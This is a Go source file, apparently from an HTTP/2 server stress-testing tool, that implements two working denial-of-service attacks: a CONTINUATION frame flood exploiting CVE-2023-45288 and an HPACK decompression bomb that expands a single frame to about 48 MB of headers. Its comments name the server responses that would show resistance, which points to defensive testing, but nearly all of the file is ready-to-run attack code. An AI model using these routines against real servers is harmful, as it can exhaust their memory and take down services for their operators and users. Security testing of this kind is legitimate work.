package hostile

import (
	"context"
	"strings"
	"time"

	"golang.org/x/net/http2"
)

// maxContinuations bounds the CONTINUATION frames of one flood (16 GiB).
const maxContinuations = 1 << 20

// ContinuationFlood sends a HEADERS frame without END_HEADERS, then
// CONTINUATION frames of 16 KB header fields that never end the block
// (CVE-2023-45288). A server that bounds a header block it has not
// decoded yet sends GOAWAY.
func ContinuationFlood(ctx context.Context, tg Target, o Options) Report {
	frag := appendLiteral(nil, 0x00, "x-flood", strings.Repeat("a", maxFrame-64))
	return run(ctx, tg, o, "continuation-flood", func(ctx context.Context, c *conn) error {
		if err := c.dial(ctx, 0); err != nil {
			return err
		}
		if err := c.handshake(); err != nil {
			return err
		}
		end, stop := c.begin(ctx, o.Duration)
		defer stop()
		c.goRead(nil)
		err := c.writeLocked(func() error {
			c.mu.Lock()
			c.res.Streams++
			c.mu.Unlock()
			return c.fr.WriteHeaders(http2.HeadersFrameParam{
				StreamID: 1, BlockFragment: c.headerBlock("GET", c.tg.SmallPath), EndStream: true,
			})
		})
		for n := 0; err == nil && n < maxContinuations && time.Now().Before(end) && ctx.Err() == nil; n++ {
			select {
			case <-c.closed:
				return nil
			default:
			}
			err = c.writeLocked(func() error { return c.fr.WriteContinuation(1, false, frag) })
		}
		return nil
	})
}

// bombsInFlight is the HPACK bombs a connection has unanswered at once.
const bombsInFlight = 4

// HPACKBomb sends requests whose header block fits one frame but decodes
// to a header list of about 48 MB: one 4 KB field entered in HPACK's
// dynamic table, then referred to by its one-byte index twelve thousand
// times. A server that bounds the list it decodes answers 431 (or
// resets the stream) without holding it.
func HPACKBomb(ctx context.Context, tg Target, o Options) Report {
	return run(ctx, tg, o, "hpack-bomb", func(ctx context.Context, c *conn) error {
		if err := c.dial(ctx, 0); err != nil {
			return err
		}
		// The client's encoder must not enter fields in the dynamic
		// table: the bomb's field is the only entry, at index 62.
		c.noIndex = true
		if err := c.handshake(); err != nil {
			return err
		}
		end, stop := c.begin(ctx, o.Duration)
		defer stop()
		// At most bombsInFlight unanswered at once.
		c.keepOpen(ctx, end, bombsInFlight, func(id uint32) error {
			c.nextID += 2
			c.mu.Lock()
			c.res.Streams++
			c.mu.Unlock()
			block := appendLiteral(c.headerBlock("GET", c.tg.SmallPath), 0x40, "x-bomb", strings.Repeat("b", 4000))
			for len(block) < maxFrame {
				block = append(block, 0x80|62) // indexed: the newest dynamic entry
			}
			return c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true})
		})
		return nil
	})
}

// appendLiteral appends an HPACK literal field with a new name: kind
// 0x40 enters it in the dynamic table, 0x00 does not. Strings are not
// Huffman-coded.
func appendLiteral(b []byte, kind byte, name, value string) []byte {
	b = append(b, kind)
	b = appendString(b, name)
	return appendString(b, value)
}

func appendString(b []byte, s string) []byte {
	return append(appendInt(b, 7, 0, uint64(len(s))), s...)
}

// appendInt appends an HPACK integer with an n-bit prefix (RFC 7541,
// 5.1); first holds the bits above the prefix.
func appendInt(b []byte, n uint, first byte, v uint64) []byte {
	limit := uint64(1)<<n - 1
	if v < limit {
		return append(b, first|byte(v))
	}
	b = append(b, first|byte(limit))
	for v -= limit; v >= 128; v >>= 7 {
		b = append(b, byte(v&0x7f)|0x80)
	}
	return append(b, byte(v))
}
